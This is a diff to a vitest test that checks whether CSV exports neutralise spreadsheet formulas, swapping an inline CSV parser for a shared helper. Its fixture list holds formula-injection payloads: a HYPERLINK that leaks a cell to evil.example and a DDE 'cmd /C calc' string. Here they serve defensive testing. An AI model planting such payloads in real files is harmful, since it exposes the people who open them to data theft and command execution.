@@ -10,36 +10,9 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { Workbench } from '../../src-main/services/api';
 import { neutraliseCell } from '../../src-main/services/csv';
 import { INTER_CONDITIONS, INTRA_RATIOS } from '../../src-shared/domain';
-import { hrlf, requireBuild, tempHome } from './helpers';
+import { csvRecords, hrlf, requireBuild, tempHome } from './helpers';
 
 const VARIANTS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+SUM(1,2)', '@cmd', '-2+3+cmd|\' /C calc\'!A0', 'plain'];
-
-/** RFC 4180 fields of one CSV text (quoted fields, doubled quotes). */
-function records(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i]!;
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (ch === '"') quoted = false;
-      else field += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',') {
-      row.push(field);
-      field = '';
-    } else if (ch === '\n') {
-      rows.push([...row, field]);
-      row = [];
-      field = '';
-    } else field += ch;
-  }
-  return rows;
-}
 
 let home: string;
 let experiment: number;
@@ -91,7 +64,7 @@ describe('CSV exports neutralise formulas (issue 9, item 7)', () => {
       const flags = format === 'csv-wide-corr' ? ['--format', 'csv-wide', '--metric', 'corr'] : ['--format', format];
       const r = await hrlf(['export', '--experiment', String(experiment), ...flags, '--out', out], home);
       expect(r.code, r.stderr).toBe(0);
-      const [header, ...rows] = records(readFileSync(out, 'utf8'));
+      const [header, ...rows] = csvRecords(readFileSync(out, 'utf8'));
       const variant = header!.indexOf('variant');
       const seen = new Set(rows.map((row) => row[variant]!).filter((v) => v !== ''));
       expect(seen).toEqual(new Set(VARIANTS.map((v) => (v === 'plain' ? v : `'${v}`))));
